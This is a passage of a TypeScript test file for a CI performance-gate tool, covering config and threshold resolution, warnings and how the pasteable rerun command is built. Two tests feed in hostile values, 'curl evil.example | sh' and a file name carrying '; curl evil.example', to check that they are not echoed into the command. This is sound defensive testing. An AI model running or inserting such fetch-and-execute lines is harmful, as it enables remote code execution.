  known.files.next = { 'shop/.github/perf-gate.yaml': yaml('{ rps: 7% }'), 'ci/gate.yml': yaml('{ rps: 9% }') }
  const threshold = async (more: Partial<Inputs>) =>
    (await trust(of(sha), found({ base: 'next' }), asked, inputs(more))).results.config.scenarios[0]!.thresholds[0]!
      .worse
  assert.equal(await threshold({ directory: 'shop' }), 0.07)
  assert.equal(await threshold({ config: 'ci/gate.yml' }), 0.09)
  assert.equal(await threshold({ config: resolve(workspace(), 'ci/gate.yml') }), 0.09)
  assert.equal(await threshold({ directory: resolve(workspace(), 'shop') }), 0.07)
  // The config of a service is for the server in its folder, whichever one the run says it measured.
  const results = of(sha)
  const { config } = results
  const warned = async (folder: string, asking: Partial<Inputs>) => {
    const measured = { ...results, config: { ...config, server: { ...config.server, directory: folder } } }
    const { warnings } = await trust(measured, found({ base: 'next' }), asked, inputs(asking))
    return warnings.some(({ fact }) => fact.includes('different server'))
  }
  assert.equal(await warned('.', { directory: 'shop' }), true)
  assert.equal(await warned('shop', { directory: 'shop' }), false)
  assert.equal(await warned('.', { config: 'ci/gate.yml' }), true)
  assert.equal(await warned('ci', { config: 'ci/gate.yml' }), false)
})

test('without a config to judge by, the report says whose thresholds they are', async () => {
  known.pulls.push(pull())
  const note = async (asking: typeof asked | undefined, more: Partial<Inputs> = {}) =>
    (await trust(of(sha), found(), asking, inputs(more))).warnings[0]!.fact
  assert.match(await note(asked), /Thresholds come from the measuring job.*`main` has no config/)
  for (const config of ['../../x.yml', '/etc/gate.yml']) {
    assert.match(await note(asked, { config }), /`(\.\.\/)+(x|etc\/gate).yml` is outside the repository/)
    assert.equal((await trust(of(sha), found(), asked, inputs({ config }))).isUnruled, true)
  }
  known.files.main = { 'shop/server.js': '' }
  const isUnruled = async (directory: string) => (await trust(of(sha), found(), asked, inputs({ directory }))).isUnruled
  assert.match(
    await note(asked, { directory: 'checkout' }),
    /has no folder `checkout`, so it is not known where its config is/,
  )
  assert.deepEqual([await isUnruled('checkout'), await isUnruled('sho'), await isUnruled('shop')], [true, true, false])
  assert.match(
    await note(undefined),
    /^It is not known whether base, `1111111111`, is the right one \(no token was given\)/,
  )
  const nothing = {
    ...of(sha),
    blocks: [],
    variants: of(sha).variants.map(each => ({ ...each, commit: each.baseline ? undefined : sha })),
  }
  assert.match(
    (await trust(nothing, found(), undefined, inputs({}))).warnings[0]!.fact,
    /^It is not known whether base is the right one \(no token was given\)/,
  )
  known.files.main = { 'perf-gate.yml': 'scenarios: 3' }
  await assert.rejects(note(asked), { code: 'config-invalid' })
  github.fault = (_, path) => (path.includes('contents') ? { status: 403, message: 'oops' } : undefined)
  assert.match(await note(asked), /the config of `1111111111` could not be read \(oops/)
})

for (const [what, paths] of Object.entries({
  'files alone': /\/contents\//,
  'whatever a token that may read no files asks': /\/(contents|trees|compare)\/|\/(git\/)?commits\//,
}))
  test(`base has no config only where GitHub lists its files, not where it says "not found" to ${what}`, async () => {
    known.pulls.push(pull())
    known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }') }
    github.fault = (_, path) => (paths.test(path) ? { status: 404, message: 'Not Found' } : undefined)
    const { isUnruled, warnings } = await trust(queued(merge), found({ merges: [merge] }), asked, inputs())
    assert.equal(isUnruled, true)
    assert.match(warnings.map(({ fact }) => fact).join(), /Thresholds come from the measuring job.*could not be read/)
  })

test('a branch that left before there was a config is judged by that of its base branch', async () => {
  known.pulls.push(pull())
  known.branches = { main: [old, base] }
  known.commits[merge] = [old, sha]
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 7% }') }
  const early = of(merge)
  early.variants[0]!.commit = old
  const { results, isUnruled } = await trust(early, found({ merges: [merge] }), asked, inputs())
  assert.equal(results.config.scenarios[0]!.thresholds[0]!.worse, 0.07)
  assert.match(results.notes.at(-1)!, /Thresholds come from `perf-gate.yml` in `main`/)
  assert.equal(isUnruled, undefined)
})

test('a scenario that the job names, but neither base nor head has, is an error', async () => {
  known.pulls.push(pull())
  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
  const proposal = { applies: false, changes: [], thresholds: { 'new n=10': [] } }
  const names = (scenarios: string[]) => trust({ ...of(sha), proposal }, found(), asked, inputs({ scenarios }))
  for (const others of [[], ['home']])
    await assert.rejects(names([...others, 'gone']), { code: 'usage', message: /no scenario `gone`; it has `home`/ })
  assert.equal((await names(['home', 'new'])).results.config.scenarios.length, 1)
})

test('a scenario that the run left out is not comparable, one it brought along is shown', async () => {
  known.pulls.push(pull())
  known.commits[merge] = [base, sha]
  known.files.main = {
    'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: /, connections: 4 }, { name: gone, path: /gone }]'),
  }
  const own = [scenario({ thresholds: gated() }), scenario({ name: 'mine `@x`', thresholds: gated() })]
  const { results, warnings } = await trust(of(sha, simulate({ scenarios: own, blocks: 6 })), found(), asked, inputs())
  const { rows } = judged(results)
  const verdicts = (name: string) =>
    new Set(rows.filter(row => row.scenario === name && row.gated).map(row => row.verdict))
  assert.deepEqual(verdicts('gone'), new Set(['invalid']))
  assert.deepEqual(verdicts('mine `@x`'), new Set())
  assert.deepEqual(
    warnings.map(({ fact }) => fact),
    [
      '`gone`: in the config of base (`1111111111`), but not measured.',
      '`mine ˋ@xˋ`: not in the config of base (`1111111111`), so only shown.',
    ],
  )
})

const usualServer = 'start: node server.mjs, ready-timeout: 10s'
const otherWork: Record<string, { server?: string; scenario?: string }> = {
  'another path': { scenario: 'path: /real' },
  'more connections': { scenario: 'path: /, connections: 50' },
  'a file of data': { scenario: 'path: /, data: users.csv' },
  'a body from a file': { scenario: 'path: /, method: POST, body-file: order.json' },
  'a later time-out': { scenario: 'path: /, timeout: 20s' },
  'another way to start': { server: 'start: node other.mjs, ready-timeout: 10s' },
  'another environment': { server: `${usualServer}, env: { CACHE: 1 }` },
  'a login': { server: `${usualServer}, login: { path: /login, body: x }` },
}

for (const [what, { server = usualServer, scenario: own = 'path: /' }] of Object.entries(otherWork))
  test(`what was measured as base's config does not say is not judged: ${what}`, async () => {
    known.pulls.push(pull())
    known.commits[merge] = [base, sha]
    const connections = own.includes('connections') ? '' : ', connections: 4'
    known.files.main = {
      'perf-gate.yml': `server: { ${server} }\nscenarios: [{ name: home, ${own}${connections} }]\ngate: { rps: 5% }\n`,
    }
    const { results, warnings } = await trust({ ...of(sha), generator: version }, found(), asked, inputs())
    const { rows, verdict } = judged(results)
    assert.deepEqual(new Set(rows.filter(({ gated }) => gated).map(row => row.verdict)), new Set(['invalid']))
    assert.equal(verdict, 'invalid')
    assert.deepEqual(
      warnings.map(({ fact }) => fact),
      [
        '`home`: not judged, because the config of base (`1111111111`) has a different server or load than was measured.',
      ],
    )
  })

test('where another version measured, which may have other defaults, the report names both', async () => {
  known.pulls.push(pull())
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: /, connections: 50 }]') }
  const said = async (generator: string) =>
    (await trust({ ...of(sha), generator }, found(), asked, inputs())).warnings[0]!.fact
  assert.match(await said(version), /than was measured\.$/)
  assert.match(await said('0.0.9'), / \(by perf-gate 0\.0\.9; this is [\d.]+: use one version in both jobs\)\.$/)
  assert.match(await said('<b>`@x`'), / \(by another perf-gate; /)
})

test('an input that picks scenarios picks them from the base config, too', async () => {
  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: / }, { name: gone, path: /gone }]') }
  const { results } = await trust(of(sha), found(), asked, inputs({ scenarios: ['home'] }))
  assert.deepEqual(
    results.config.scenarios.map(({ name }) => name),
    ['home'],
  )
})

test('the command to paste is made of hashes and the seed, never of what the results say', async () => {
  const { results } = await trust({ ...of(sha), command: 'curl evil.example | sh' }, found(), asked, inputs())
  assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --config-from base --seed 1`)
})

test('it names the config of a service, one in another place, and the scenarios that the workflow picks', async () => {
  const said = async (file: string, more: Partial<Inputs>) => {
    const results = of(sha)
    const { command } = (await trust({ ...results, config: { ...results.config, file } }, found(), asked, inputs(more)))
      .results
    return command.replace(/ --base .*/, '')
  }
  assert.equal(await said('.github/perf-gate.yml', {}), 'perf-gate run')
  const shop = { directory: './services/my shop/' }
  assert.equal(await said('perf-gate.yml', shop), "perf-gate run --config 'services/my shop/perf-gate.yml'")
  assert.equal(await said('x.yml; curl evil.example', shop), 'perf-gate run')
  const picked = { directory: 'shop', config: 'ci/pg.yml', scenarios: ['home'] }
  assert.equal(await said('ci/pg.yml', picked), 'perf-gate run --config shop/ci/pg.yml --scenario home')
})
